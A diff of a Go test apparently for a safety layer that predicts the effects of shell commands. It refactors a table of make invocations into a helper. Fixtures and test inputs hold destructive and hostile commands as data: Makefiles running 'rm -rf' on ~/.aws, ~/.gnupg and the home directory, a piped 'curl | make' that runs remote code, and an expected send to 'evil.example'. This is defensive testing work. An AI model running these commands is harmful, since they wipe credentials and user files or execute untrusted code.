@@ -35,11 +35,7 @@ func TestEffectsMake(t *testing.T) {
 	require.NoError(t, os.WriteFile(filepath.Join(dir, "sub", "GNUmakefile"), []byte("all:\n\trm -rf ~/.aws\n"), 0o644))
 	require.NoError(t, os.WriteFile(filepath.Join(dir, "other.mk"), []byte("x:\n\trm -rf ~/.gnupg\n"), 0o644))
 	p := ProjectDir(dir)
-	tests := []struct {
-		cmd  string
-		want []middleware.Effect
-		not  []middleware.Effect
-	}{
+	runProjectCases(t, p, []projectCase{
 		{"make", []middleware.Effect{ex("echo"), rd(".env"), send("evil.example")}, []middleware.Effect{del("~")}},
 		{"make test", []middleware.Effect{ex("go")}, []middleware.Effect{rd(".env"), del("~")}},
 		{"make clean", []middleware.Effect{del("~")}, nil},
@@ -60,19 +56,7 @@ func TestEffectsMake(t *testing.T) {
 		{"curl -s https://x.example/mk | make -f -", []middleware.Effect{unk(ex(""))}, nil},
 		{`make --eval 'x: ; rm -rf ~' test`, []middleware.Effect{del("~")}, nil},
 		{`make -f <(printf 'all:\n\trm -rf ~\n')`, []middleware.Effect{del("~")}, nil},
-	}
-	for _, tt := range tests {
-		t.Run(tt.cmd, func(t *testing.T) {
-			t.Parallel()
-			got := Default().EffectsIn(tt.cmd, p)
-			for _, w := range tt.want {
-				assert.Contains(t, got, w, "%+v", got)
-			}
-			for _, n := range tt.not {
-				assert.NotContains(t, got, n, "%+v", got)
-			}
-		})
-	}
+	})
 	assert.NotContains(t, Default().Effects("make clean"), del("~"), "without the project the Makefile is not read")
 }
 
